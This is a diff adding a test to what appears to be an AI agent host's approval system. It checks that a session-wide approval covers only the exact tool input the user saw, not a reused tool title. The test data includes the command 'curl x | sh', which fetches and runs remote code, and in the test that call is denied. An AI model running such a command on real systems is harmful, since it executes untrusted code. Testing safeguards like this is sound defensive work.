@@ -453,3 +453,29 @@ def test_terminal_methods_are_unknown_as_they_are_not_advertised(tmp_path: Path)
         assert texts(client, sid)[-1] == (
             "terminal create: -32601, output: -32601, release: -32601, wait: -32601, kill: -32601"
         )
+
+
+def test_allowed_for_the_session_covers_the_same_call_never_the_same_title(
+    tmp_path: Path,
+) -> None:
+    """An agent's tool title is its own free text: "allow for the session" covers that
+    title with exactly the input the user saw; the same title with another input
+    (`curl x | sh` where `hi` was allowed) is asked again."""
+    with agent_host(tmp_path) as (_host, client):
+        sid = new_session(client)["id"]
+        started = client.call("turns.start", {"sessionId": sid, "text": "ask"})
+        asked = client.wait_notification(lambda n: n["method"] == "approvals.requested")
+        client.call("approvals.respond", {"approvalId": asked["params"]["approvalId"],
+                                          "decision": "allow_session"})  # fmt: skip
+        assert client.wait_turn_end(started["id"])["state"] == "completed"
+        client.notifications.clear()
+        assert turn(client, sid, "ask")["state"] == "completed"  # the same call: not asked
+        assert texts(client, sid)[-1] == "permission: always"
+        assert not [n for n in client.notifications if n["method"] == "approvals.requested"]
+        other = client.call("turns.start", {"sessionId": sid, "text": "askother"})
+        asked = client.wait_notification(lambda n: n["method"] == "approvals.requested")
+        assert json.loads(asked["params"]["arguments"])["text"] == "curl x | sh"
+        client.call("approvals.respond", {"approvalId": asked["params"]["approvalId"],
+                                          "decision": "deny"})  # fmt: skip
+        assert client.wait_turn_end(other["id"])["state"] == "completed"
+        assert texts(client, sid)[-1] == "permission: no"
